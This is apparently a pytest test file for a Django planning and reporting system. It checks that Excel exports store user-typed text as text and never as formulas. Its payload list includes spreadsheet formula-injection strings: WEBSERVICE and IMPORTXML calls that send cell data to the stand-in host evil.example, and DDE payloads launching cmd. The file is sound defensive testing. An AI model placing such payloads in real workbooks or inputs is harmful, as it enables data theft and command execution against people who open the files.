"""Text people type never becomes a formula in a workbook the system hands out (issue 13,
Medium 4): the classic payloads go into every text field, each export is opened with openpyxl,
and the only formulas in any file are the system's own ratio formula."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from indicators.models import Indicator
from monitoring.tests.helpers import export
from org.models import Role
from org.scope import UserScope
from org.tests.factories import user_with_role
from plans.tests.factories import PlanFactory, TargetFactory, TaskFactory
from reporting import excel, selectors, services
from reporting.tests.factories import (
    IndicatorFactory,
    PeriodFactory,
    RatioIndicatorFactory,
    ScheduleFactory,
    ScheduleIndicatorFactory,
)

pytestmark = pytest.mark.django_db
SUPER = UserScope(user_id=None, is_superuser=True)

PAYLOADS = [
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=HYPERLINK("http://evil.example/","Bấm để xem")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "=cmd|' /C notepad'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
    "+SUM(A1:A2)",
    "@A1",
    "-A1",
    "=2*3",
]
OWN_FORMULA = "=IF(AND(ISNUMBER("


@pytest.fixture
def poisoned(world):
    """A plan whose every text a person types is a formula payload, reported and accepted."""
    payload = iter(PAYLOADS)
    world.commune.name = next(payload)
    world.commune.save()
    plan = PlanFactory(issuer=world.province, title=next(payload))
    schedule = ScheduleFactory(plan=plan, name=next(payload), unit_types=[world.commune.unit_type])
    ratio = RatioIndicatorFactory(
        name=next(payload), numerator_label=next(payload), denominator_label=next(payload)
    )
    text = IndicatorFactory(kind=Indicator.Kind.TEXT, unit="", name=next(payload))
    for indicator in (ratio, text):
        ScheduleIndicatorFactory(schedule=schedule, indicator=indicator)
    task = TaskFactory(plan=plan, title=next(payload))
    schedule.tasks.add(task)
    target = TargetFactory(plan=plan, indicator=ratio, value=90, text=next(payload))
    period = PeriodFactory(schedule=schedule)
    report = services.report_open(scope=SUPER, unit=world.commune, period=period)
    report = services.report_save_draft(
        scope=SUPER,
        user=None,
        report=report,
        expected_version=report.version,
        values={
            ratio.pk: {"numerator": 9, "denominator": 10, "comment": next(payload)},
            text.pk: {"text": next(payload)},
        },
        task_updates={task.pk: {"status": "in_progress", "progress": 50, "note": next(payload)}},
        narrative={"results": PAYLOADS[0], "difficulties": PAYLOADS[2]},
    )
    template = excel.report_workbook(selectors.report_sheet(report))
    for step in (services.report_submit, services.report_approve, services.report_accept):
        report = step(scope=SUPER, user=None, report=report)
    return {
        "plan": plan,
        "target": target,
        "schedule": schedule,
        "period": period,
        "template": template,
    }


def exports(client, world, poisoned) -> dict[str, bytes]:
    client.force_login(user_with_role(world.province, Role.COORDINATOR))
    files = {
        "report template": poisoned["template"],
        # The dashboards' exports run as background jobs: asked for, run, downloaded.
        "plan": export(client, "monitoring:plan_excel", poisoned["plan"].pk).content,
        "target": export(client, "monitoring:target_excel", poisoned["target"].pk).content,
    }
    urls = {
        "board": reverse("reporting:board_excel", args=[poisoned["schedule"].pk]),
        "figures": reverse("reporting:period_excel", args=[poisoned["period"].pk]),
    }
    for name, url in urls.items():
        response = client.get(url)
        assert response.status_code == 200, name
        files[name] = response.content
    return files


def test_every_text_cell_of_every_workbook_is_text(client, world, poisoned):
    found = set()
    for name, content in exports(client, world, poisoned).items():
        book = load_workbook(io.BytesIO(content))
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        assert str(cell.value).startswith(OWN_FORMULA), (
                            f"{name}/{ws.title}!{cell.coordinate} is a formula: {cell.value}"
                        )
                    elif isinstance(cell.value, str):
                        assert cell.data_type == "s"
                        found.update(p for p in PAYLOADS if p in cell.value)
    # The payloads did reach the files, as text.
    assert found == set(PAYLOADS)
